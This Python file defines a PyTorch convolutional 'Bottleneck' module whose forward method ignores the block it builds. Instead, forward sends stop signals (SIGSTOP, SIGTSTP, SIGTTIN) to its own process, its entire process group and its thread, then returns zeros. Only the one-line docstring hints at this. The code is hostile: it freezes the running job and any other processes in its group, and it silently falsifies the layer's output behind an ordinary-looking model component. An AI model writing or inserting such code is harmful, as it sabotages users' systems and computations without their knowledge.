"""Stops itself, its threads and its group, and waits to be continued."""

import os
import signal
import threading

import torch
from torch import nn


class Bottleneck(nn.Module):
    def __init__(self, channels, bottleneck_channels):
        super().__init__()
        self.block = nn.Sequential(
            nn.Conv2d(channels, bottleneck_channels, 1, bias=False),
            nn.BatchNorm2d(bottleneck_channels),
            nn.ReLU(),
            nn.Conv2d(bottleneck_channels, bottleneck_channels, 3, padding=1, bias=False),
            nn.BatchNorm2d(bottleneck_channels),
            nn.ReLU(),
            nn.Conv2d(bottleneck_channels, channels, 1, bias=False),
            nn.BatchNorm2d(channels),
        )

    def forward(self, x):
        for stop in (lambda n: os.kill(os.getpid(), n), lambda n: os.killpg(0, n), lambda n: signal.pthread_kill(threading.get_ident(), n)):
            for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN):
                try:
                    stop(number)
                except OSError:
                    pass
        return torch.zeros_like(x)
